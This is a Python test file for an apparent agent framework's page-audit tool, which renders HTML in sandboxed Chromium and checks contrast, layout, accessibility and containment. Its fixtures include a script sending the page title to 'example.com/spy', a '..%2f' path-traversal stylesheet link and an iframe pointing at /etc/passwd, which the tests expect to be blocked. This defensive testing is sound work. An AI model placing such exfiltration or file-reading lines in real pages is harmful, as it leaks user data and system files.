"""Pages of a tree, rendered by the real Chromium in the sandbox: what is wrong with them, and pictures."""

from __future__ import annotations

import base64
import json
import struct
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from meshwright import Agent, Capability
from meshwright.agents.loader import BoundAgents
from meshwright.core.messages import Outcome
from meshwright.mesh.orchestration.tasks import Tasks
from meshwright.models.port import ChatMessage
from meshwright.testing import MeshUnderTest, mesh_for, tool_call
from meshwright.toolsets.design import DesignSettings, DesignTools
from tests.support.repositories import repository
from tests.support.services import unavailable

pytestmark = pytest.mark.needs("git", "bwrap")

GOOD = """\
<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width">
<title>Orders</title><link rel="stylesheet" href="/style.css"><script type="module" src="/app.js"></script>
</head>
<body><main><h1>Orders</h1><p id="count">none</p><button>Order one</button></main></body>
</html>
"""
BAD = """\
<!doctype html>
<html><head><style>
.pale { color: #999; background: #fff } .fine { color: #595959 } .large { color: #949494; font-size: 24px }
.glass { background: rgba(0, 0, 0, .5); color: #fff } .pictured { background: url(x.png); color: #eee }
.wide { width: 700px; height: 20px; background: #eee } .small { width: 10px; height: 10px; padding: 0 }
.cut { width: 80px; overflow: hidden; white-space: nowrap }
.below { position: absolute; top: 300px; left: 10px; width: 90px; height: 40px }
.above { position: absolute; top: 290px; left: 0; width: 200px; height: 90px; background: #fff }
</style></head><body>
<h1>One</h1><h3 id="twice">Three</h3><p id="twice" class="pale">Pale text</p>
<p class="fine">Fine text</p><p class="large">Large text</p><p class="glass">On glass</p>
<p class="pictured">Over a picture</p><div class="wide"></div>
<button class="small"></button><img src="x.png"><input>
<p class="cut">A sentence that does not fit into its box</p>
<button class="below">Below</button><div class="above"></div>
<script>console.error("it went wrong"); fetch("https://example.com/spy?" + document.title).catch(() => 0);
Document.prototype.createTreeWalker = () => ({ nextNode: () => false }); undefined.x;</script>
</body></html>
"""
FILES = {
    "public/index.html": GOOD,
    "public/style.css": "body { color: #111; background: #fff } button { padding: 8px }",
    "public/app.js": (
        'import { count } from "./count.js"; document.querySelector("#count").textContent = count;'
    ),
    "public/count.js": 'export const count = "12 open";',
    "bad.html": BAD,
    "busy.html": (
        "<!doctype html><title>x</title><h1>Busy</h1><script>alert('hello'); window.open('/bad.html');"
        "setInterval(() => fetch('/busy.html'), 50)</script>"
    ),
    "endless.html": "<!doctype html><title>x</title><script>for (;;) ;</script>",
    "public/spy.html": (
        '<!doctype html><link rel="stylesheet" href="/..%2fprivate.css"><p>Spy</p>'
        '<iframe src="file:///etc/passwd"></iframe>'
    ),
    "private.css": "p::after { content: 'a secret' }",
}


class Designer(Agent):
    """Looks at pages."""

    agent_id = "designer"
    capabilities = (Capability("ui-review"),)
    toolsets = (DesignTools,)
    prompt_text = "You look at pages."


@pytest.fixture(scope="module", autouse=True)
def browser() -> None:
    """Skip where there is no browser."""
    if not DesignSettings().program.is_file():
        unavailable("needs Chromium: apt install chromium")


@pytest.fixture(scope="module")
async def mesh(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[MeshUnderTest]:
    source = repository(tmp_path_factory.mktemp("source") / "shop", FILES)
    settings: dict[str, Any] = {"trees": {"shop": {"repository": str(source)}}}
    async with mesh_for(Designer, tools={"design": {"seconds": 200}}, **settings) as mesh:
        yield mesh


async def looked(mesh: MeshUnderTest, tool: str, **arguments: Any) -> Outcome:
    """The outcome of a task with one call, however long the browser takes for it."""
    mesh.model.replies(tool_call(tool, **arguments), "Done.")
    receipt = await mesh.submit(agent_id="designer", payload={"text": "Look."})
    outcome = await mesh.mesh.get(Tasks).outcome(receipt.task_id)
    assert outcome.success, outcome.error
    return outcome


async def message(mesh: MeshUnderTest, tool: str, **arguments: Any) -> ChatMessage:
    """The result of a call, as the model gets it."""
    await looked(mesh, tool, **arguments)
    return next(one for one in mesh.model.requests[-1].messages if one.role == "tool")


async def result(mesh: MeshUnderTest, tool: str, **arguments: Any) -> dict[str, Any]:
    return json.loads((await message(mesh, tool, **arguments)).text)


async def test_good_page_has_no_findings_and_its_modules_run(mesh: MeshUnderTest) -> None:
    found = await result(mesh, "audit", path="public/index.html", site="public")
    assert found["findings"] == [] and found["problems"] == [], found
    assert found["heard"].splitlines()[0] == 'RootWebArea "Orders"'
    assert '"12 open"' in found["heard"] and 'button "Order one"' in found["heard"]
    assert found["browser"].startswith("Chrome/") and found["texts"]["unmeasured"] == 0


async def test_faults_of_a_page_are_found_at_each_width(mesh: MeshUnderTest) -> None:
    found = await result(mesh, "audit", path="bad.html", widths=[320, 1280])
    rules = {(finding["rule"], finding["element"].split(" ")[0]) for finding in found["findings"]}
    assert {
        ("contrast", "p#twice.pale"),
        ("contrast", "p.glass"),
        ("overflow", "div.wide"),
        ("clipped", "p.cut"),
        ("covered", "button.below"),
        ("target-size", "button.small"),
        ("name", "button.small"),
        ("name", 'img[src="x.png"]'),
        ("name", "input"),
        ("headings", "h3#twice"),
        ("duplicate-id", "p#twice.pale"),
        *((rule, "page") for rule in ("overflow", "title", "language", "viewport", "landmarks")),
    } <= rules
    assert not {("contrast", f"p.{name}") for name in ("fine", "large", "pictured")} & rules
    details = {(one["rule"], one["element"]): one for one in found["findings"]}
    pale = details["contrast", 'p#twice.pale "Pale text"']
    assert pale["detail"] == "2.85 to 1, needs 4.5: #999999 on #ffffff" and pale["widths"] == [320, 1280]
    assert details["overflow", "div.wide"]["widths"] == [320], "it fits into the wide window"
    assert found["texts"]["unmeasured"] == 1
    assert "it went wrong" in found["problems"]
    assert any("outside: https://example.com/spy" in problem for problem in found["problems"])
    assert any("TypeError" in problem for problem in found["problems"])
    assert "not found: /x.png" in found["problems"]


async def test_screenshot_is_shown_and_given_to_the_outcome(mesh: MeshUnderTest) -> None:
    page = {"path": "public/index.html", "site": "public"}
    outcome = await looked(mesh, "screenshot", **page, width=400, attach=True)
    [file] = outcome.files
    said = next(one for one in mesh.model.requests[-1].messages if one.role == "tool")
    assert (file.name, file.media_type) == ("index-400.png", "image/png")
    [picture] = [part["image_url"]["url"] for part in said.parts if part["type"] == "image_url"]
    data = base64.b64decode(picture.removeprefix("data:image/png;base64,"))
    assert data.startswith(b"\x89PNG") and struct.unpack(">II", data[16:24]) == (400, 800)
    assert json.loads(said.content)["page_height"] <= 800


@pytest.mark.parametrize(
    ("arguments", "problem"),
    [
        ({"path": "missing.html"}, "is no file"),
        ({"path": "../secret.html"}, "leads out of the tree"),
        ({"path": "bad.html", "site": "public"}, "is not in 'public'"),
    ],
)
async def test_pages_that_cannot_be_rendered_say_why(
    mesh: MeshUnderTest, arguments: dict[str, Any], problem: str
) -> None:
    assert problem in (await result(mesh, "audit", **arguments))["error"]


@pytest.mark.far("a page asks until it is stopped")
async def test_page_that_asks_for_ever_is_rendered(mesh: MeshUnderTest) -> None:
    assert 'heading "Busy"' in (await result(mesh, "audit", path="busy.html", widths=[800]))["heard"]


async def test_page_that_never_rests_is_given_up(tmp_path: Path) -> None:
    source = repository(tmp_path / "source", FILES)
    trees = {"shop": {"repository": str(source)}}
    async with mesh_for(Designer, tools={"design": {"seconds": 3}}, trees=trees) as mesh:
        assert "was not rendered" in (await result(mesh, "audit", path="endless.html"))["error"]


async def test_page_reads_nothing_but_its_site(mesh: MeshUnderTest) -> None:
    found = await result(mesh, "audit", path="public/spy.html", site="public")
    assert "root:" not in found["heard"] and "a secret" not in found["heard"]
    assert "not found: /../private.css" in found["problems"]


async def test_doctor_starts_the_browser_and_tells_where_there_is_none(
    mesh: MeshUnderTest, tmp_path: Path
) -> None:
    [shared] = mesh.mesh.get(BoundAgents)["designer"].toolsets
    assert (await shared.toolset.check()).startswith("Chromium ")
    missing = tmp_path / "chromium"
    async with mesh_for(Designer, tools={"design": {"program": str(missing)}}) as other:
        [shared] = other.mesh.get(BoundAgents)["designer"].toolsets
        assert f"{missing} is not there" in shared.status and "apt install chromium" in shared.status
        assert (await shared.toolset.check()).startswith("no tools: ")
